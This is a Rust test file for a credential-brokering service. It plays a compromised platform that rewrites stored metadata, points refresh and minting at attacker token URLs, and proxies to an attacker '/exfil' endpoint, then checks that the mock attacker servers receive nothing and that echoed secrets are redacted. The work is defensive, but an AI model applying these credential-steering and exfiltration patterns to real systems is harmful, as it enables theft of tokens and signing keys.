//! Issue 17 (items 1-4, 9 in part): a compromised platform that mints tickets, rewrites documents
//! with `storage set` and names every upstream URL and refresh hint gets nothing out. Each test
//! plays that platform against a running keyholder, with attacker servers on 127.0.0.1 that record
//! every request, and shows they received none.

use std::sync::Arc;

use base64::Engine as _;
use keyholder_protocol::document::format_iso8601;
use keyholder_protocol::paths::PATH_REFRESH_NOTIFY;
use keyholder_tests::upstream::{MockServer, Reply, TestRsa};
use keyholder_tests::*;
use serde_json::{json, Value};

use crate::minting::{assert_no_key, google_endpoint, service_account};
use crate::proxy::policy_keyholder;
use crate::refresh::token_endpoint;

/// An attacker's server: answers 200 to anything and records it.
async fn attacker() -> MockServer {
    MockServer::start(|_| Reply::json(200, json!({"token": "ghs_attacker", "access_token": "x"})))
        .await
}

async fn storage_get(kh: &Keyholder, key: &str) -> Value {
    kh.storage(json!({"operation": "get", "collection": "tokens", "key": key}))
        .await
        .json()["data"]
        .clone()
}

async fn storage_set(kh: &Keyholder, key: &str, doc: &Value) {
    let a = kh
        .storage(json!({"operation": "set", "collection": "tokens", "key": key, "data": doc}))
        .await;
    a.assert_ok();
}

/// A GitHub App installation-token endpoint for App 12345, installation 678 (anything else 403).
async fn github_app_endpoint(key: Arc<TestRsa>) -> MockServer {
    MockServer::start(move |r| {
        let jwt = r
            .header("authorization")
            .and_then(|a| a.strip_prefix("Bearer "))
            .unwrap_or("");
        let ok = key.verify_jwt(jwt).is_some_and(|c| c["iss"] == "12345")
            && r.target == "/app/installations/678/access_tokens";
        if ok {
            Reply::json(
                201,
                json!({"token": "ghs_owner_installation", "expires_at": format_iso8601(now() + 3600)}),
            )
        } else {
            Reply::json(403, json!({"message": "wrong app or installation"}))
        }
    })
    .await
}

#[tokio::test]
async fn item1_github_app_minting_ignores_meta_written_by_the_platform() {
    let kh = policy_keyholder(|_| {}).await;
    let key = Arc::new(TestRsa::generate());
    let github = github_app_endpoint(Arc::clone(&key)).await;
    let evil = attacker().await;
    // The owner's GitHub Enterprise-like host, allowed by the owner.
    kh.egress("allow", "app", &[&github.origin()], false).await;
    let stored = kh
        .store("app", json!({"tokenType": "GitHubApp", "appId": "12345", "installationId": "678", "apiUrl": github.origin(), "privateKeyData": key.private_pem()}))
        .await;
    assert_eq!(stored.status, 200);
    // The signing key is not among the ordinary fields: it sits in the sealed inputs only.
    let doc = storage_get(&kh, "app").await;
    assert!(doc["fields"].get("privateKeyData").is_none(), "{doc}");
    assert!(doc["fields"]["sealedInputs"]
        .as_str()
        .unwrap()
        .starts_with("kh1:"));

    // The platform rewrites meta: another host (also owner-allowed, to show meta is not read at
    // all), App, installation; and flips tokenType so the key would come out as a plain field.
    kh.egress("allow", "app", &[&evil.origin()], false).await;
    let mut tampered = doc.clone();
    let meta = tampered["meta"].as_object_mut().unwrap();
    meta.insert("apiUrl".into(), json!(evil.origin()));
    meta.insert("appId".into(), json!("999"));
    meta.insert("installationId".into(), json!("1"));
    meta.insert("tokenType".into(), json!("oauth"));
    storage_set(&kh, "app", &tampered).await;
    let answer = kh.credential("app").await;
    answer.assert_ok();
    assert_eq!(
        answer.json()["token"]["accessToken"],
        "ghs_owner_installation"
    );
    assert_no_key(&answer, &key.private_pem());
    assert_eq!(github.count(), 1);

    // Dropping the sealed inputs leaves nothing to mint with, and still no key.
    let mut stripped = tampered.clone();
    stripped["fields"]
        .as_object_mut()
        .unwrap()
        .remove("sealedInputs");
    storage_set(&kh, "app", &stripped).await;
    let answer = kh.credential("app").await;
    assert_no_key(&answer, &key.private_pem());
    assert!(!String::from_utf8_lossy(&answer.body).contains("ghs_"));
    // Moving the sealed inputs to another service does not open them there.
    storage_set(&kh, "other", &doc).await;
    let moved = kh.credential("other").await;
    assert_ne!(moved.status, 200);
    assert_no_key(&moved, &key.private_pem());
    assert_eq!(evil.count(), 0, "the attacker's host got a request");
}

#[tokio::test]
async fn item1_token_endpoints_are_under_the_egress_policy() {
    let kh = policy_keyholder(|_| {}).await;
    let key = Arc::new(TestRsa::generate());
    let evil = attacker().await;
    // The store-time apiUrl names a host the owner never allowed (e.g. the platform's page
    // changed it): minting is refused before the signed JWT leaves, and the owner can see it.
    kh.store("app", json!({"tokenType": "GitHubApp", "appId": "12345", "installationId": "678", "apiUrl": evil.origin(), "privateKeyData": key.private_pem()}))
        .await;
    let refused = kh.credential("app").await;
    refused.assert_error(403, "egress_denied");
    assert!(refused.json()["message"]
        .as_str()
        .unwrap()
        .contains(&format!("keyholder egress allow app {}", evil.origin())));
    let proxied = kh.proxy_get("app", &evil.url("/")).await;
    proxied.assert_error(403, "egress_denied");
    // A service-account key whose token_uri is the attacker's.
    kh.store(
        "gcs",
        json!({"privateKeyData": service_account(&key, &evil.url("/token"))}),
    )
    .await;
    kh.credential("gcs")
        .await
        .assert_error(403, "egress_denied");
    assert_eq!(evil.count(), 0);
    let pending = kh.egress_pending();
    assert!(pending
        .iter()
        .any(|p| p.service == "app" && p.origin == evil.origin() && p.count >= 2));
    assert!(pending
        .iter()
        .any(|p| p.service == "gcs" && p.origin == evil.origin()));
}

#[tokio::test]
async fn item1_service_account_subject_and_scopes_come_from_store_time() {
    let kh = policy_keyholder(|_| {}).await;
    let key = Arc::new(TestRsa::generate());
    // The endpoint accepts only the read-only scope and no subject (see google_endpoint).
    let subjects = Arc::new(std::sync::Mutex::new(Vec::<Value>::new()));
    let seen = Arc::clone(&subjects);
    let verify = Arc::clone(&key);
    let google_checked = MockServer::start(move |r| {
        let form = r.form();
        if let Some(claims) =
            verify.verify_jwt(form.get("assertion").map(String::as_str).unwrap_or(""))
        {
            seen.lock().unwrap().push(claims);
        }
        Reply::json(
            200,
            json!({"access_token": format!("ya29.m-{}", random_hex(3)), "expires_in": 30}),
        )
    })
    .await;
    let google = google_endpoint(Arc::clone(&key), "sa@p.iam.gserviceaccount.com", 30).await;
    kh.egress("allow", "gcs", &[&google.origin()], false).await;
    kh.store("gcs", json!({"privateKeyData": service_account(&key, &google.url("/token")), "scopes": ["https://www.googleapis.com/auth/devstorage.read_only"]}))
        .await;
    let mut doc = storage_get(&kh, "gcs").await;
    let meta = doc["meta"].as_object_mut().unwrap();
    meta.insert("subject".into(), json!("admin@corp.example"));
    meta.insert(
        "scopes".into(),
        json!(["https://www.googleapis.com/auth/admin.directory.user"]),
    );
    storage_set(&kh, "gcs", &doc).await;
    let answer = kh.credential("gcs").await;
    answer.assert_ok();
    assert_eq!(google.count(), 1);
    // And with a subject sealed at store time, that one (not meta's) is in the assertion.
    kh.egress("allow", "gcs2", &[&google_checked.origin()], false)
        .await;
    kh.store("gcs2", json!({"privateKeyData": service_account(&key, &google_checked.url("/token")), "subject": "owner@corp.example"}))
        .await;
    let mut doc = storage_get(&kh, "gcs2").await;
    doc["meta"]["subject"] = json!("admin@corp.example");
    doc["meta"]["scope"] = json!("https://www.googleapis.com/auth/admin.directory.user");
    storage_set(&kh, "gcs2", &doc).await;
    assert_eq!(kh.credential("gcs2").await.status, 200);
    let claims = subjects.lock().unwrap().clone();
    assert_eq!(claims.len(), 1);
    assert_eq!(claims[0]["sub"], "owner@corp.example");
    assert_eq!(
        claims[0]["scope"],
        "https://www.googleapis.com/auth/cloud-platform"
    );
}

#[tokio::test]
async fn item2_known_mode_refuses_unknown_origins_and_keeps_them_pending() {
    let mut kh = policy_keyholder(|_| {}).await;
    let evil = attacker().await;
    for _ in 0..2 {
        let a = kh.proxy_get("github", &evil.url("/exfil")).await;
        a.assert_error(403, "egress_denied");
        let message = a.json()["message"].as_str().unwrap().to_string();
        assert!(
            message.contains(&format!("keyholder egress allow github {}", evil.origin())),
            "{message}"
        );
    }
    // A token of no catalogued provider goes nowhere by default either.
    kh.store("custom", json!({"accessToken": "opaque-token-value"}))
        .await;
    kh.proxy_get("custom", &evil.url("/"))
        .await
        .assert_error(403, "egress_denied");
    assert_eq!(evil.connections(), 0, "nothing may reach the attacker");
    // Durable: the owner sees the refusals after a restart.
    kh.restart().await;
    let pending = kh.egress_pending();
    let github = pending
        .iter()
        .find(|p| p.service == "github")
        .expect("github's refusal is pending");
    assert_eq!(github.origin, evil.origin());
    assert_eq!(github.count, 2);
    assert!(github.last_at >= now() - 60);
    assert!(pending.iter().any(|p| p.service == "custom"));
    // The JSON the CLI prints has these keys.
    let printed = serde_json::to_value(&pending).unwrap();
    for key in ["service", "origin", "count", "lastAt"] {
        assert!(printed[0].get(key).is_some(), "{printed}");
    }
}

#[tokio::test]
async fn item2_existing_pins_become_pending_on_upgrade() {
    let mut kh = policy_keyholder(|_| {}).await;
    let pinned = attacker().await;
    kh.stop().await;
    // A data folder of the previous schema, where the platform's first call had pinned a host.
    downgrade_to_previous_schema(
        &kh,
        &format!(
            "INSERT INTO egress_policies (service, mode, allowlist, pinned_origin, updated_at)
               VALUES ('github', 'pinned', '[]', '{}', 1);",
            pinned.origin()
        ),
    );
    kh.restart().await;
    let policy = kh.egress("show", "github", &[], false).await;
    assert_eq!(
        serde_json::to_value(&policy).unwrap()["mode"],
        json!("known")
    );
    assert_eq!(policy.pinned_origin, None);
    assert!(policy.allowlist.is_empty());
    kh.proxy_get("github", &pinned.url("/"))
        .await
        .assert_error(403, "egress_denied");
    assert_eq!(pinned.connections(), 0);
    let pending = kh.egress_pending();
    assert!(pending
        .iter()
        .any(|p| p.service == "github" && p.origin == pinned.origin()));
}

/// Turns the data folder back into the previous schema (7), as a keyholder before owner-decided egress left it.
fn downgrade_to_previous_schema(kh: &Keyholder, extra_sql: &str) {
    let conn = rusqlite::Connection::open(kh.data_dir.join("keyholder.db")).unwrap();
    conn.execute_batch(&format!(
        "DROP TABLE egress_refusals;
         DROP TABLE legacy_minting;
         DROP TABLE egress_pins;
         DROP TABLE policies;
         DROP TABLE policy_attachments;
         DROP TABLE policy_usage;
         DROP TABLE policy_approvals;
         DROP TABLE sign_configs;
         {extra_sql}
         PRAGMA user_version = 7;"
    ))
    .unwrap();
}

#[tokio::test]
async fn item1_legacy_github_apps_never_come_out_as_plain_credentials() {
    let mut kh = policy_keyholder(|_| {}).await;
    let key = TestRsa::generate();
    // A GitHub App as the previous version stored it: the key an ordinary sealed field, the
    // minting inputs in meta.
    kh.store(
        "legacy",
        json!({"tokenType": "certificate", "privateKeyData": key.private_pem()}),
    )
    .await;
    kh.stop().await;
    downgrade_to_previous_schema(
        &kh,
        "UPDATE documents SET doc = json_set(doc, '$.meta.tokenType', 'GitHubApp',
            '$.meta.appId', '12345', '$.meta.installationId', '678')
         WHERE collection = 'tokens' AND key = 'legacy';",
    );
    kh.restart().await;
    // Minting from meta is refused until the owner stores it again.
    let refused = kh.credential("legacy").await;
    refused.assert_error(400, "invalid_request");
    assert!(refused.json()["message"]
        .as_str()
        .unwrap()
        .contains("store it again"));
    // The platform flips meta so it would look like a plain credential: still no key.
    let mut doc = storage_get(&kh, "legacy").await;
    doc["meta"]["tokenType"] = json!("certificate");
    storage_set(&kh, "legacy", &doc).await;
    let answer = kh.credential("legacy").await;
    answer.assert_error(400, "invalid_request");
    assert_no_key(&answer, &key.private_pem());
    // Stored again by the owner, it mints (from its sealed inputs).
    let github = github_app_endpoint(Arc::new(key)).await;
    kh.egress("allow", "legacy", &[&github.origin()], false)
        .await;
    let stored = kh.store("legacy", json!({"tokenType": "GitHubApp", "appId": "12345", "installationId": "678", "apiUrl": github.origin(), "privateKeyData": TestRsa::generate().private_pem()}))
        .await;
    assert_eq!(stored.status, 200);
    // (A different key: the endpoint refuses it, which shows minting was attempted.)
    kh.credential("legacy")
        .await
        .assert_error(502, "provider_error");
    assert_eq!(github.count(), 1);
    // A store replaced the old key, so the mark is gone: a certificate stored now comes out.
    kh.store(
        "legacy",
        json!({"tokenType": "certificate", "privateKeyData": "-----BEGIN PRIVATE KEY-----x"}),
    )
    .await;
    assert_eq!(kh.credential("legacy").await.status, 200);
}

#[tokio::test]
async fn item3_an_echoing_upstream_gets_the_credential_back_redacted() {
    let mut kh = Keyholder::start_with(|c| {
        c.egress_allow_private = true;
        c.metrics_listen = Some("127.0.0.1:0".parse().unwrap());
    })
    .await;
    kh.bind().await;
    const TOKEN: &str = "ghp_echo/secret\"value_42";
    kh.store("github", json!({"accessToken": TOKEN})).await;
    // An allowed upstream that echoes the credential every way it can.
    let echo = MockServer::start(|r| {
        let auth = r.header("authorization").unwrap_or("").to_string();
        let raw = auth.strip_prefix("Bearer ").unwrap_or("").to_string();
        let b64 = base64::engine::general_purpose::STANDARD;
        Reply::json(
            200,
            json!({
                "headers": {"authorization": auth},
                "basic": format!("Basic {}", b64.encode(format!("x-access-token:{raw}"))),
                "plain64": b64.encode(&raw),
            }),
        )
        .header("X-Echo", &auth)
        .header(
            "X-Echo-Basic",
            &format!("Basic {}", b64.encode(format!("u:{raw}"))),
        )
    })
    .await;
    kh.egress("allow", "github", &[&echo.origin()], false).await;
    // The platform asks for a compressed answer, which the redaction could not read: the
    // upstream is asked for an uncompressed one instead.
    let answer = kh
        .proxy(
            "github",
            json!({"url": echo.url("/anything"), "headers": {"Accept-Encoding": "gzip, br"}}),
            json!({"Authorization": "Bearer ${TOKEN}"}),
        )
        .await;
    assert_eq!(answer.status, 200);
    assert_eq!(
        echo.requests()[0].header("accept-encoding"),
        Some("identity")
    );
    assert_eq!(
        echo.requests()[0].header("authorization"),
        Some(format!("Bearer {TOKEN}").as_str())
    );
    let b64 = base64::engine::general_purpose::STANDARD;
    let mut everything = String::from_utf8_lossy(&answer.body).to_string();
    for (name, value) in answer.headers.iter() {
        everything.push_str(&format!(
            "\n{name}: {}",
            String::from_utf8_lossy(value.as_bytes())
        ));
    }
    for form in [
        TOKEN.to_string(),
        serde_json::to_string(TOKEN)
            .unwrap()
            .trim_matches('"')
            .to_string(),
        "ghp_echo".to_string(),
        b64.encode(TOKEN).trim_end_matches('=')[..16].to_string(),
    ] {
        assert!(!everything.contains(&form), "{form} in {everything}");
    }
    assert!(everything.contains("[REDACTED]"), "{everything}");
    assert_eq!(
        answer.header("x-echo").as_deref(),
        Some("Bearer [REDACTED]")
    );
    let url = kh.server.as_ref().unwrap().metrics_url().unwrap();
    let text = reqwest::get(&url).await.unwrap().text().await.unwrap();
    let line = text
        .lines()
        .find(|l| l.starts_with("keyholder_credential_redactions_total "))
        .unwrap_or_else(|| panic!("{text}"));
    let count: f64 = line.split_whitespace().nth(1).unwrap().parse().unwrap();
    assert!(count >= 5.0, "{line}");
}

async fn notify(kh: &Keyholder, service: &str, hint: Value) -> Answer {
    let id = format!("req_{}", random_hex(8));
    let body =
        json!({"requestId": id, "service": service, "reason": "expired", "refreshHint": hint});
    kh.signed_raw(
        PATH_REFRESH_NOTIFY,
        &serde_json::to_vec(&body).unwrap(),
        now(),
        &id,
    )
    .await
}

#[tokio::test]
async fn item4_refresh_is_never_steered_to_another_provider_or_the_platforms_url() {
    let mut kh = Keyholder::start_with(|c| {
        c.egress_allow_private = true;
        c.oauth_trust_platform_secret = true;
    })
    .await;
    kh.bind().await;
    kh.store(
        "github",
        json!({"accessToken": "gho_a", "refreshToken": "ghr_a"}),
    )
    .await;
    // The owner's token endpoint for the service (checks client and refresh token).
    let own = token_endpoint("c", "s", "ghr_a", json!({"access_token": "gho_a2"})).await;
    kh.oauth_set("github", &own.url("/token"), "c", "s");
    // Provider B: another owner client, at a host that records what it gets.
    let other = attacker().await;
    kh.oauth_set("other", &other.url("/token"), "c", "s");
    let evil = attacker().await;
    // The platform names B in the hint and in meta, and offers its own token URL.
    let mut doc = storage_get(&kh, "github").await;
    doc["meta"]["provider"] = json!("other");
    storage_set(&kh, "github", &doc).await;
    for provider in ["other", "does-not-exist"] {
        let a = notify(
            &kh,
            "github",
            json!({"provider": provider, "tokenUrl": evil.url("/token"), "clientId": "p", "clientSecret": "x"}),
        )
        .await;
        a.assert_ok();
        assert_eq!(a.json()["status"], "refreshed", "{}", a.json());
    }
    assert_eq!(other.count(), 0, "provider B's URL got the refresh token");
    assert_eq!(evil.count(), 0, "the platform's URL got the refresh token");
    assert_eq!(own.count(), 2);

    // A provider name sealed at store time with no owner client, while the owner configured one
    // for the service: no fallback to the platform's client and URL.
    kh.store(
        "gitlab",
        json!({"accessToken": "glpat-x", "refreshToken": "r1", "provider": "ghost"}),
    )
    .await;
    kh.oauth_set("gitlab", &own.url("/token"), "c", "s");
    let a = notify(
        &kh,
        "gitlab",
        json!({"provider": "ghost", "tokenUrl": evil.url("/token"), "clientId": "p"}),
    )
    .await;
    assert_eq!(a.json()["status"], "acknowledged", "{}", a.json());
    assert_eq!(evil.connections(), 0);
    assert_eq!(own.count(), 2);
    // The other credential was never written by a refresh of this one.
    let b = kh.credential("other").await;
    b.assert_error(404, "token_not_found");
    // A provider sealed at store time steers to the owner's client of that name, and stays sealed
    // through the rewrite (a second refresh finds it again).
    let work = MockServer::start(|_| Reply::json(200, json!({"access_token": "gho_work2"}))).await;
    kh.oauth_set("github-oauth", &work.url("/token"), "c", "s");
    kh.store(
        "work",
        json!({"accessToken": "gho_w", "refreshToken": "ghr_w", "provider": "github-oauth"}),
    )
    .await;
    for _ in 0..2 {
        let a = notify(&kh, "work", json!({"provider": "other"})).await;
        assert_eq!(a.json()["status"], "refreshed", "{}", a.json());
    }
    assert_eq!(work.count(), 2);
    assert!(work
        .requests()
        .iter()
        .all(|r| r.form().get("refresh_token").map(String::as_str) == Some("ghr_w")));
    let doc = storage_get(&kh, "work").await;
    assert!(doc["fields"]["sealedInputs"].is_string(), "{doc}");
    assert!(doc["meta"].get("sealedInputs").is_none(), "{doc}");
    assert_eq!(other.count(), 0);
}

#[tokio::test]
async fn item4_a_platform_token_url_is_under_the_egress_policy() {
    let mut kh = Keyholder::start_with(|c| {
        c.egress_allow_private = true;
        c.oauth_trust_platform_secret = true;
    })
    .await;
    kh.bind().await;
    kh.store(
        "github",
        json!({"accessToken": "gho_a", "refreshToken": "ghr_a"}),
    )
    .await;
    let evil = attacker().await;
    let a = notify(
        &kh,
        "github",
        json!({"tokenUrl": evil.url("/token"), "clientId": "p", "clientSecret": "x"}),
    )
    .await;
    a.assert_error(403, "egress_denied");
    assert_eq!(evil.connections(), 0);
    assert!(kh
        .egress_pending()
        .iter()
        .any(|p| p.service == "github" && p.origin == evil.origin()));
}

#[tokio::test]
async fn item9_guard_refusals_do_not_reveal_what_a_name_resolves_to() {
    // Default guard: private addresses refused.
    let mut kh = Keyholder::start().await;
    kh.bind().await;
    kh.store("github", json!({"accessToken": "gho_resolve"}))
        .await;
    kh.egress("allow", "github", &[], true).await;
    let sink = MockServer::ok().await;
    let a = kh
        .proxy_get(
            "github",
            &format!("https://localhost:{}/", sink.addr.port()),
        )
        .await;
    a.assert_error(403, "egress_denied");
    let message = a.json()["message"].as_str().unwrap().to_string();
    assert!(message.contains("localhost"), "{message}");
    for revealing in ["127.0.0.1", "::1", "loopback"] {
        assert!(!message.contains(revealing), "{message}");
    }
    assert_eq!(sink.connections(), 0);
}
